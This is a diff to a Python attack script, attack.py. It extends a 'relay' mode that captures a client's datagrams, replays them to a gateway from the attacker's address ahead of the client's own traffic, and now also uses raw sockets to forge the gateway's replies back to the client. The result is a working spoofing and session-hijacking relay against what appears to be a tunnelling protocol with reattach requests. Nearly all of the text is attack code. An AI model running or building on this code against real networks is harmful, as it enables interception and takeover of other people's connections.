@@ -8,13 +8,15 @@
         he sent, and how many of these were requests to reattach
     attack.py relay GATEWAY PORT    takes such lines from standard input and
         sends at once what the client sent, from his own address, faster than
-        the client's own network delivers it; says at the end how many
+        the client's own network delivers it, and passes on to the client what
+        the gateway answers him; says at the end how many went each way
     attack.py forge SOURCE DESTINATION PAYLOAD    sends one datagram
 """
 import signal
 import socket
 import struct
 import sys
+import threading
 
 CONTROL, DATA = "5", "4"
 # A sealed REATTACH_REQUEST without padding is known by its length: 16 bytes of
@@ -84,9 +86,30 @@ def enough(*_):
     raise Enough
 
 
+class Back(threading.Thread):
+    """The way from the gateway to the client, in the gateway's name."""
+
+    def __init__(self, own, gateway):
+        super().__init__(daemon=True)
+        self.own, self.gateway = own, gateway
+        self.client, self.sent = None, 0
+        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW,
+                                 socket.IPPROTO_RAW)
+
+    def run(self):
+        while True:
+            payload = self.own.recv(1 << 16)
+            if self.client:
+                self.raw.sendto(forged(self.gateway, self.client, payload),
+                                (self.client[0], 0))
+                self.sent += 1
+
+
 def relay(gateway):
     signal.signal(signal.SIGTERM, enough)
     own = own_socket()
+    back = Back(own, gateway)
+    back.start()
     sent = 0
     try:
         for line in sys.stdin:
@@ -94,11 +117,12 @@ def relay(gateway):
             if len(word) < 9 or word[4] not in (CONTROL, DATA) or \
                address(word[3]) != gateway or int(word[6]) > MTU:
                 continue
+            back.client = address(word[2])
             own.sendto(bytes.fromhex(word[8]), gateway)
             sent += 1
     except Enough:
         pass
-    print(sent, flush=True)
+    print(sent, back.sent, flush=True)
 
 
 def forge(source, destination, payload):
